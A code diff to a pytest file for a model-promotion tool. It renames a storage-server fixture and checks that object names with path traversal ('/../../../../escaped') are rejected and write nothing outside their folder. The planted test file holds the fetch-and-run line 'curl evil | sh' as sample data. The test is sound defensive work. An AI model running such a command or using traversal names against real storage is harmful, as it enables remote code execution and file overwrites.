@@ -8,12 +8,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from components.train_job.launcher import copy_bundle
 from must import storage
 from must.cli import main
 from must.names import below
-from tests.gcs import Server
+from must_components.train_job.launcher import copy_bundle
 from tests.promote.bundles import make_bundle
+from tests.stores import Server, plant
 
 
 @given(st.one_of(st.text(), st.lists(st.sampled_from(["", ".", "..", "a", "\0"]), max_size=5).map("/".join)))
@@ -33,12 +33,12 @@ EVIL = ["/../../../../escaped", "/a/../../../../escaped", "//{folder}/escaped"]
 
 @pytest.mark.parametrize("evil", EVIL)
 def test_promoting_an_onnx_folder_writes_nothing_elsewhere(
-    gcs_server: Server, tmp_path: Path, capsys: pytest.CaptureFixture[str], evil: str
+    bucket_server: Server, tmp_path: Path, capsys: pytest.CaptureFixture[str], evil: str
 ) -> None:
-    storage.write_bytes(gcs_server.uri + "/onnx/model.onnx", b"onnx")
-    storage.write_bytes(gcs_server.uri + "/onnx" + evil.format(folder=tmp_path), b"curl evil | sh\n")
+    storage.write_bytes(bucket_server.uri + "/onnx/model.onnx", b"onnx")
+    plant(bucket_server.uri + "/onnx" + evil.format(folder=tmp_path), b"curl evil | sh\n")
     bundle, registry = make_bundle(tmp_path / "model"), tmp_path / "a" / "registry"
-    flags = ["--model", bundle, "--onnx", gcs_server.uri + "/onnx", "--registry", registry, "--name", "x"]
+    flags = ["--model", bundle, "--onnx", bucket_server.uri + "/onnx", "--registry", registry, "--name", "x"]
     with pytest.raises(SystemExit, match="2"):
         main(["promote", *map(str, flags)])
     assert "leads out of its folder" in capsys.readouterr().err
@@ -46,9 +46,9 @@ def test_promoting_an_onnx_folder_writes_nothing_elsewhere(
 
 
 @pytest.mark.parametrize("evil", EVIL)
-def test_fetching_a_trainjobs_bundle_writes_nothing_elsewhere(gcs_server: Server, tmp_path: Path, evil: str) -> None:
-    storage.write_bytes(gcs_server.uri + "/bundle/model.json", b"{}")
-    storage.write_bytes(gcs_server.uri + "/bundle" + evil.format(folder=tmp_path), b"import os\n")
+def test_fetching_a_trainjobs_bundle_writes_nothing_elsewhere(bucket_server: Server, tmp_path: Path, evil: str) -> None:
+    storage.write_bytes(bucket_server.uri + "/bundle/model.json", b"{}")
+    plant(bucket_server.uri + "/bundle" + evil.format(folder=tmp_path), b"import os\n")
     with pytest.raises(ValueError, match="leads out of its folder"):
-        copy_bundle(gcs_server.uri + "/bundle", str(tmp_path / "a" / "b" / "c" / "d"))
+        copy_bundle(bucket_server.uri + "/bundle", str(tmp_path / "a" / "b" / "c" / "d"))
     assert not list(tmp_path.rglob("escaped")) and not (tmp_path / "a").exists()
